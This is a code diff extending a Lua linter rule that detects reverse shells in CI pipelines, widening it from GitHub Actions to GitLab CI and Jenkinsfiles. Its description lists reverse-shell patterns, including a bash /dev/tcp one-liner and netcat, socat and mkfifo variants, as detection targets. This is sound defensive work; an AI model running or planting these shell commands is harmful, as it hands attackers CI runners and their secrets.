@@ -167,7 +167,9 @@ attack planted in a pull request, a compromised action or script, or a
 debugging shortcut that must not stay in a workflow.
 
 Reported in `run:` scripts (any shell), every `with:` and `env:` value,
-composite and Docker action steps, entrypoints and args: netcat/ncat with
+composite and Docker action steps, entrypoints and args, GitLab CI script
+lines and variables (included files too) and Jenkins sh/bat/powershell
+steps and environment values: netcat/ncat with
 -e/-c/--exec, `bash -i >& /dev/tcp/HOST/PORT 0>&1` and other /dev/tcp
 descriptor tricks, an interactive shell piped to nc/telnet/openssl
 s_client (the mkfifo variant), socat `exec:`/`system:` with a TCP address,
@@ -197,16 +199,22 @@ example:
     "https://attack.mitre.org/techniques/T1059/004/",
     "https://github.com/bridgecrewio/checkov/blob/main/checkov/github_actions/checks/job/ReverseShellNetcat.py",
   },
-  files = {".github/workflows/*.{yml,yaml}", "**/action.{yml,yaml}"},
+  files = {".github/workflows/*.{yml,yaml}", "**/action.{yml,yaml}",
+           ".gitlab-ci.yml", "**/*.gitlab-ci.{yml,yaml}",
+           "**/Jenkinsfile", "**/Jenkinsfile.*", "**/*.{Jenkinsfile,jenkinsfile}"},
 
   check = function(file, ctx)
     local m = mlgate.pipeline.load(file.path)
-    if not m or (m.kind ~= "workflow" and m.kind ~= "action") then return end
+    if not m then return end
+    local kind = m.kind
+    if kind ~= "workflow" and kind ~= "action" and kind ~= "gitlab-ci" and kind ~= "jenkinsfile" then
+      return
+    end
     local seen = {}
 
     -- val: a model value; is_script: a shell script whose command starts
     -- are known to the lexer; where: a description for the message.
-    local function check_value(val, is_script, where, route, job_id, step_index)
+    local function check_value(val, is_script, where, route, job_id, step_index, path)
       local text = text_of(val)
       if not maybe(text) then return end
       local hits = scan(text)
@@ -228,13 +236,15 @@ example:
           if best then off = best end
         end
         local line, col = mlgate.pipeline.where(val, off)
-        local k = line or 0
+        -- A GitLab value may come from an included file.
+        local file_path = path or (type(val) == "table" and val.path) or nil
+        local k = (file_path or m.path or "") .. ":" .. (line or 0)
         if line and not seen[k] then
           seen[k] = true
           ctx:fail{
             message = ("This %s contains a reverse shell: %s; remove it, find out who added it "
               .. "and rotate the secrets this job could read."):format(where, h.what),
-            line = line, column = col,
+            path = file_path, line = line, column = col,
             confidence = h.confidence,
             key = (route or "") .. ":" .. h.name,
             details = {job = job_id, step = step_index, pattern = h.name},
@@ -247,7 +257,7 @@ example:
       for _, kv in ipairs(list or {}) do
         if kv.value then
           check_value(kv.value, false, ("%s value %s"):format(what, tostring(kv.name)),
-            route .. "." .. tostring(kv.name), job_id, step_index)
+            route .. "." .. tostring(kv.name), job_id, step_index, kv.path or kv.value.path)
         end
       end
     end
@@ -256,13 +266,26 @@ example:
       local job_id = job and job.id
       local route = step.route or ""
       if step.run then
-        check_value(step.run, true, "run: script", route .. ".run", job_id, step.index)
+        local what = kind == "gitlab-ci" and "script line"
+                     or kind == "jenkinsfile" and (tostring(step.shell) .. " step")
+                     or "run: script"
+        check_value(step.run, true, what, route .. ".run", job_id, step.index,
+          step.path or (job and job.path))
       end
       check_kvs(step.with, "with:", route .. ".with", job_id, step.index)
       check_kvs(step.env, "env:", route .. ".env", job_id, step.index)
     end
 
-    if m.kind == "workflow" then
+    if kind == "gitlab-ci" or kind == "jenkinsfile" then
+      -- Variables: the top-level ones once; jobs list inherited entries
+      -- again at the same place, which `seen` drops.
+      local vars = kind == "gitlab-ci" and "variables:" or "environment"
+      check_kvs(m.variables or m.environment, vars, "variables")
+      for _, job in ipairs(m.jobs or {}) do
+        for _, step in ipairs(job.steps or {}) do check_step(step, job) end
+        check_kvs(job.env, vars, (job.route or "") .. ".env", job.id)
+      end
+    elseif kind == "workflow" then
       check_kvs(m.env, "env:", "env")
       for _, job in ipairs(m.jobs or {}) do
         check_kvs(job.env, "env:", (job.route or "") .. ".env", job.id)
